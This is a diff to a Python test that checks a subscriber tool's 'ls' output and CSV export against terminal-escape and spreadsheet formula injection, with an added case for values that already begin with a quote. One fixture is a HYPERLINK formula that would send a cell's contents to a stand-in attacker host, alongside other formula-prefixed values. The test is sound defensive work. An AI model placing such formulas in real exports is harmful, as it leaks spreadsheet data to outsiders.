@@ -225,6 +225,8 @@ def test_what_a_web_form_let_in_is_inert_in_ls_and_export(project, runner, tmp_p
     formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
     subscribers.add(conn, "eve@example.net", {"name": name, "note": formula}, "active", "web: test")
     subscribers.add(conn, "-dash@example.net", {"name": "+1 555", "note": "@home"}, "active", "test")
+    quoted = {"name": "'-)", "note": "'=SUM(A1)", "@sum(1+1)": "''x"}  # a "'" of their own
+    subscribers.add(conn, "quote@example.net", quoted, "active", "test")
     conn.close()
     listed = run(runner, "subscribers", "ls").stdout
     assert "\x1b" not in listed and "\u202e" not in listed and "\x07" not in listed
@@ -234,15 +236,18 @@ def test_what_a_web_form_let_in_is_inert_in_ls_and_export(project, runner, tmp_p
     backup = tmp_path / "backup.csv"
     assert run(runner, "subscribers", "export", str(backup)).exit_code == 0
     cells = [cell for row in csv.reader(io.StringIO(backup.read_text())) for cell in row]
-    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]  # header too
     assert f"'{formula}" in cells and "'-dash@example.net" in cells and "'@home" in cells
 
     (project / ".digest" / "journal.sqlite3").unlink()
     restored = run(runner, "subscribers", "import", str(backup))
     assert restored.exit_code == 0, restored.output
-    by_address = {s["email"]: s for s in json.loads(run(runner, "subscribers", "ls", "--json").stdout)}
+    listed = json.loads(run(runner, "subscribers", "ls", "--json").stdout)
+    # (every row of an export has every column: a field another reader has reads back empty)
+    by_address = {s["email"]: {**s, "fields": {k: v for k, v in s["fields"].items() if v}} for s in listed}
     assert by_address["eve@example.net"]["fields"] == {"name": name, "note": formula}
     assert by_address["-dash@example.net"]["fields"] == {"name": "+1 555", "note": "@home"}
+    assert by_address["quote@example.net"]["fields"] == quoted
 
 
 def test_erasure_redacts_the_server_replies_that_quote_the_address(tmp_path: Path) -> None:
